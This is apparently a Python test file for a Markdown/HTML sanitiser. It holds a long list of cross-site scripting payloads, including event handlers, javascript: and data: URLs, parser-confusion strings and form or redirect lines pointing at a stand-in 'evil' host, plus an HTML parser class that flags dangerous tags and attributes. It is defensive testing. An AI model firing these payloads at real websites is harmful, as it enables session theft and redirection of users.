"""Texts that try to become more than text, and what finds out whether one has."""

from __future__ import annotations

from html.parser import HTMLParser

# `go` is what they all try to call; a browser test defines it.
ATTACKS = [
    "<script>go()</script>",
    "<img src=x onerror=go()>",
    "<svg/onload=go()>",
    "<svg><script>go()</script></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=go()>",
    '<iframe srcdoc="<script>go()</script>"></iframe>',
    '<a href="javascript:go()">x</a>',
    '<a href="JaVaScRiPt&colon;go()">x</a>',
    '<a href=" &#1;javascript:go()">x</a>',
    '<a href="java&Tab;script:go()">x</a>',
    '<a href="data:text/html,<script>go()</script>">x</a>',
    "[x](javascript:go())",
    "[x](JAVASCRIPT:go())",
    "[x](java&#10;script:go())",
    "[x](&#106;avascript:go())",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:go)",
    "![x](javascript:go())",
    '![x" onerror="go()](y)',
    '[x](y "a\\" onmouseover=\\"go()")',
    "[x]\n\n[x]: javascript:go()",
    "<javascript:go()>",
    '<https://a"onmouseover="go()>',
    'https://a.b/"onmouseover="go()',
    '```"><script>go()</script>\n```',
    "```html\n<script>go()</script>\n```",
    ":red[<img src=x onerror=go()>]",
    ':color[a]{foreground="red;background:url(javascript:go())"}',
    ':color[a]{background="red\\"onx=\\"1"}',
    "$<img src=x onerror=go()>$",
    "$$</div><script>go()</script>$$",
    '$"onmouseover=go() x="$',
    "<style>@import 'http://evil'</style>",
    "<base href=http://evil>",
    "<meta http-equiv=refresh content=0;url=http://evil>",
    "<form action=http://evil><input name=p><button>x</button></form>",
    "<object data=x><embed src=x>",
    "<template><img src=x onerror=go()></template>",
    '<noscript><p title="</noscript><img src=x onerror=go()>">',
    "<!--><img src=x onerror=go()>-->",
    "<![CDATA[<img src=x onerror=go()>]]>",
    "<input type=image src=x onerror=go()>",
    "<details open ontoggle=go()>",
    '<a href="#x" id="main" name="main">x</a>',
    "<div style='position:fixed;background:url(//evil)'>x</div>",
    "<IMG SRC=jAVasCrIpT:go()>",
    '<img src="x" onerror="&#103;o()">',
    '<img src=x onerror\n=\n"go()">',
    "<img src=x:x onerror=go()//",
    '<img srcset="x 1x" onerror=go()>',
    "<image src=x onerror=go()>",
    "<body onload=go()>",
    "<input autofocus onfocus=go()>",
    "<select autofocus onfocus=go()><option>x</select>",
    "<textarea autofocus onfocus=go()>x</textarea>",
    "<p contenteditable autofocus onfocus=go() tabindex=0>x</p>",
    "<video><source onerror=go()></video>",
    "<audio src=x onerror=go()></audio>",
    "<marquee onstart=go()>x</marquee>",
    "<button formaction=javascript:go()>x</button>",
    "<dialog open onclose=go()>x</dialog>",
    '<a xlink:href="javascript:go()">x</a>',
    '<a href="\x01javascript:go()">x</a>',
    "<svg><a xlink:href='javascript:go()'><text>x</text></a></svg>",
    "<svg><animate onbegin=go() attributeName=x dur=1s>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload=go()>#x"/></svg>',
    "<math href=javascript:go()>x</math>",
    '<math><annotation-xml encoding="text/html"><img src onerror=go()></annotation-xml></math>',
    '<svg></p><style><a id="</style><img src=1 onerror=go()>">',
    '<noembed><img title="</noembed><img src onerror=go()>">',
    "<xmp><p title='</xmp><img src=x onerror=go()>'>",
    "<plaintext><img src onerror=go()>",
    "<table><td background=javascript:go()>x",
    "<link rel=stylesheet href=http://evil>",
    "<p style=\"background:url('javascript:go()')\">x</p>",
    "<p style='width:expression(go())'>x</p>",
    "<p onpointerover=go() style='position:absolute;inset:0'>x</p>",
    "</textarea><script>go()</script>",
    "</title></style></pre><script>go()</script>",
    '"><script>go()</script>',
    "' onmouseover='go()",
    "{{constructor.constructor('go()')()}}${go()}",
    "<scr\x00ipt>go()</scr\x00ipt>",
    "<scr<script>ipt>go()</scr</script>ipt>",
    "<<script>go()//<</script>",
    "&lt;img src=x onerror=go()&gt;",
    "&amp;lt;img src=x onerror=go()&amp;gt;",
    "\\u003cimg src=x onerror=go()\\u003e",
    "[x](<javascript:go()>)",
    "[x](javascript&colon;go())",
    "[x](\x01javascript:go())",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9Z28oKT4=)",
    "[![x](x)](javascript:go())",
    "`<script>go()</script>`",
    "> <script>go()</script>",
    "| <img src onerror=go()> |\n|---|\n| <svg onload=go()> |",
    ":material/<script>go()</script>:",
    ":red-badge[<img src=x onerror=go()>]",
    "$\\href{javascript:go()}{x}$",
    "$\\htmlData{onload=go()}{\\includegraphics{http://evil}}$",
    "<object data=javascript:go()></object><embed src=javascript:go()>",
    "<iframe src=javascript:go()></iframe>",
    "<frameset onload=go()><frame src=javascript:go()></frameset>",
]

DEAD_TAGS = {
    *("script", "iframe", "object", "embed", "form", "base", "meta", "link", "style", "svg"),
    *("math", "template", "button", "noscript", "textarea", "frameset", "body"),
    *("select", "dialog", "marquee", "xmp", "noembed", "plaintext", "image"),
}
LIVE_SCHEMES = {"javascript", "vbscript", "data"}
ADDRESSES = {"href", "src", "action", "formaction", "background", "data", "poster", "xlink:href"}


class Danger(HTMLParser):
    """Finds what could run, load something or stand for something of the host's."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in DEAD_TAGS:
            self.found.append(tag)
        for name, value in attrs:
            plain = "".join(c for c in value or "" if ord(c) > 32).lower()
            is_picture = tag == "img" and name == "src" and plain.startswith("data:image/")
            if (
                name.startswith("on")
                or name in {"srcset", "name", "srcdoc", "contenteditable", "autofocus"}
                or (
                    name in ADDRESSES and plain.partition(":")[0] in LIVE_SCHEMES and not is_picture
                )
                or (
                    name == "id"
                    and not plain.startswith("rr-")
                    and not any(map(str.isdigit, plain))
                )
                or (name == "style" and ("url(" in plain or "position:fixed" in plain))
            ):
                self.found.append(f"{tag} {name}={value}")
